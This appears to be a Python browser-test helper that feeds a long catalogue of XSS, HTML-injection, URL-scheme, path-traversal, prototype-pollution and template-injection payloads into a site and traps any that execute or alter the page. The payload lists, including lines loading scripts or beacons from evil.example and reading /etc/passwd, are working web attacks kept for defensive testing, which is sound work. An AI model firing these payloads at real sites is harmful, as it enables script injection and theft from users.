"""Words that try to be something else than words, and a trap for the one that succeeds.

Every payload that runs says so by `alert` or `hacked`; whoever adds one must let it do the same."""
import json

RUN = "alert(1)"

SCRIPTS = [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)></script>", "<script type=module>alert(1)</script>", "</script><script>alert(1)</script>", "</SCRIPT ><script >alert(1)</script >",
    "<!--<script>alert(1)</script>-->", "<!--", "-->", "<!--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "]]><script>alert(1)</script>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>", "<script>alert(1)//", "\"};alert(1);//", "';alert(1);//", "\\';alert(1);//", "`;alert(1);//", "${alert(1)}",
    "</script><!--<script>", "<script>window.hacked=1</script>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
]

HANDLERS = [
    "<img src=x onerror=alert(1)>", "<IMG SRC=x OnErRoR=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x onerror\n=alert(1)>",
    "<img src=x:x onerror=\"alert(1)\">", "<image src=x onerror=alert(1)>", "<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<video src=x onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>", "<div onpointerover=alert(1) style=position:fixed;inset:0>x</div>", "<p tabindex=1 autofocus onfocus=alert(1)>x</p>",
    "<object data=x onerror=alert(1)>", "<iframe onload=alert(1)></iframe>", "<style onload=alert(1)></style>", "<link rel=stylesheet href=x onerror=alert(1)>",
    "<x onclick=alert(1) id=main>x</x>", "<a onmouseover=alert(1)>x</a>",
]

VECTORS = [
    "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>#x\">",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>", "<math href=javascript:alert(1)>x</math>",
]

MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<plaintext>", "<frameset onload=alert(1)>",
    "<select><template shadowrootmode=open><img src=x onerror=alert(1)></template></select>", "</textarea><img src=x onerror=alert(1)>", "</title><img src=x onerror=alert(1)>",
    "</style><img src=x onerror=alert(1)>", "</option></select><img src=x onerror=alert(1)>", "</dd></dl></main></body></html><img src=x onerror=alert(1)>",
]

ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", " javascript:alert(1)", "javascript://%0aalert(1)",
    "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>", "vbscript:msgbox(1)",
    "blob:https://evil.example/x", "filesystem:https://evil.example/x", "view-source:javascript:alert(1)", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "https:evil.example",
    "https://evil.example@127.0.0.1/", "file:///etc/passwd", "../../../../etc/passwd", "mailto:a@b.no?subject=x%0d%0aBcc:c@d.no", "tel:1;phone-context=javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>", "<a href=\"javas&#99;ript:alert(1)\">x</a>", "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>parent.hacked=1</script>\"></iframe>",
    "<embed src=javascript:alert(1)>", "<object data=javascript:alert(1)>", "[x](javascript:alert(1))", "![x](javascript:alert(1))", "<javascript:alert(1)>",
]

DOCUMENTS = [
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">", "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>alert(1)</script>",
    "<base href=https://evil.example/>", "<base target=_top href=//evil.example>", "<link rel=import href=//evil.example/x>", "<link rel=prefetch href=//evil.example/x>",
    "<link rel=dns-prefetch href=//evil.example>", "<form action=//evil.example><input name=x>", "<img src=//evil.example/x>", "<img srcset=//evil.example/x>",
    "<video poster=//evil.example/x>", "<style>@import '//evil.example/x'</style>", "<style>*{background:url(//evil.example/x)}</style>", "<div style=\"background:url(//evil.example/x)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>", "};*{display:none}", "\"><style>*{display:none!important}</style>",
]

ATTRIBUTES = [
    "\" onmouseover=alert(1) x=\"", "' onmouseover=alert(1) x='", "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>", "\" autofocus onfocus=alert(1) \"", "x onerror=alert(1)",
    "\" style=\"display:none", "=\"\"onload=\"alert(1)", "`onmouseover=alert(1)", "\u201d onmouseover=alert(1) x=\u201c", "&quot;><img src=x onerror=alert(1)>", "&#34;&#62;<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;script&amp;gt;alert(1)", "&NewLine;&Tab;&colon;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
]

CHARACTERS = [
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<\0script>alert(1)</script>", "\0<img src=x onerror=alert(1)>", "<img src=x\u2028onerror=alert(1)>", "\u2028alert(1)//", "\u2029;alert(1)",
    "\u202e)1(trela<tpircs>", "\u2066<b>\u2069\u202d", "\ufeff<script>alert(1)</script>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u02bascript\u02ba", "<\u200bscript>alert(1)</script>",
    "Z\u0351\u0343\u034a" * 30, "\U000e0001\U000e0041", "\ud7ff\ue000\uffff", "a\rb\r\nc\x0bd\x0ce", "\x1b[2J\x07", "\u0085\u00a0\u00ad",
]

NAMES = [
    "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "undefined", "null", "true", "NaN", "0", "-1", "1e999", "[object Object]", "other", "result", "answers", "location", "document",
    "<form id=document name=location><input name=hacked>", "<a id=mestringWords><a id=mestringWords name=saved href=x>", "<img name=body>", "<form name=defaultView>", "<div id=main data-root=//evil.example/>",
]

TEMPLATES = [
    "{{constructor.constructor('alert(1)')()}}", "{{{{alert(1)}}}}", "{{{alert(1)}}}", "<%= alert(1) %>", "#{alert(1)}", "{%raw%}", "{name}", "{count} {date} {text}", "$& $` $' $1 $$", "%s%n%d",
]

LONG = ["<img src=x onerror=alert(1)>" * 40, "A" * 1200, "<b>" * 300, "&" * 300, "(" * 300]

PAYLOADS = SCRIPTS + HANDLERS + VECTORS + MUTATIONS + ADDRESSES + DOCUMENTS + ATTRIBUTES + CHARACTERS + NAMES + TEMPLATES + LONG

# What has come into a page that was not made there, whether it runs or not.
TRAP = """(() => {
  const caught = what => console.error('caught: ' + what);
  for (const name of ['alert', 'confirm', 'prompt', 'open']) window[name] = (...given) => caught(name + ' ' + given.join());
  Object.defineProperty(window, 'hacked', { get: () => undefined, set: value => caught('hacked = ' + value), configurable: true });
  Object.defineProperty(Object.prototype, 'hacked', { get: () => undefined, set: value => caught('hacked = ' + value), configurable: true });
  addEventListener('securitypolicyviolation', event => caught(event.violatedDirective + ' ' + event.blockedURI + ' ' + event.sample));
  const elements = 'script, style, iframe, frame, frameset, object, embed, base, meta, link, template, math, foreignObject, animate, set, image, use, form:not(.search-form), img, video, audio, plaintext, x, b, marquee';
  const bad = element => {
    if (element.matches('body ' + elements.split(', ').join(', body ')) && !element.closest('[data-made]')) return true;
    return Array.from(element.attributes).some(({ name, value }) => /^on|^(srcdoc|formaction)$/.test(name)
      || (/^(href|xlink:href|src|action|data|poster)$/.test(name) && /^[\\0-\\x20]*(javascript|vbscript|data:text)/i.test(value)));
  };
  const look = element => {
    if (bad(element)) caught('made <' + element.outerHTML.slice(0, 200));
  };
  addEventListener('DOMContentLoaded', () => {
    // What the compiler has written is looked at by the test, as it stands in the file.
    for (const element of document.querySelectorAll(elements)) element.setAttribute('data-made', '');
    new MutationObserver(list => {
      for (const { type, target, addedNodes } of list) {
        if (type === 'attributes') look(target);
        for (const node of addedNodes) {
          if (node.nodeType !== 1) continue;
          look(node);
          node.querySelectorAll('*').forEach(look);
        }
      }
    }).observe(document, { subtree: true, childList: true, attributes: true });
  });
})();"""


def set_trap(context):
    """What runs, or comes into a page, or leads away, is a problem that the context's test fails for."""
    context.add_init_script(TRAP)

    def watch(page):
        page.on("dialog", lambda dialog: (context.problems.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        page.on("popup", lambda popup: context.problems.append(f"opened {popup.url}"))

    context.on("page", watch)
    return context


def assert_whole(page, address, parts="h1, header .site-nav a, main .field, main .quiz, main .measure"):
    """The page is still the page that was asked for, with its heading, its ways on and its questions."""
    assert page.url.split("#")[0].split("?")[0] == address.split("#")[0].split("?")[0]
    assert page.locator("h1").first.is_visible()
    assert page.locator("header a.help-now").is_visible()
    assert page.locator("header .site-nav a").count() >= 2
    assert page.evaluate("getComputedStyle(document.querySelector('main')).display") != "none"
    assert page.evaluate("Object.keys(Object.prototype).length") == 0


def unspoilt():
    """Payloads that the browser keeps as they are in a field of one line."""
    return [each for each in PAYLOADS if not set(each) & set("\r\n\0") and each == json.loads(json.dumps(each))]
